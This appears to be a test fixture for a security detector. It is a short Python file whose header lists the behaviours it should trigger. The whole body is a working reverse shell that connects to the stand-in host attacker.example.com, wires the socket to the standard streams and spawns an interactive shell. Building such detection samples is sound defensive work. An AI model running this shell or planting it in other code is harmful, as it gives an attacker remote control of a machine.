# expect: reverse_shell network.egress process.spawn_shell
# ruff: noqa (deliberately hostile or plain sample code, run inside the sandbox)
# The classic Python reverse shell: connect back, wire the socket to fds 0-2, exec an interactive shell.
import os
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(3)
s.connect(("attacker.example.com", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
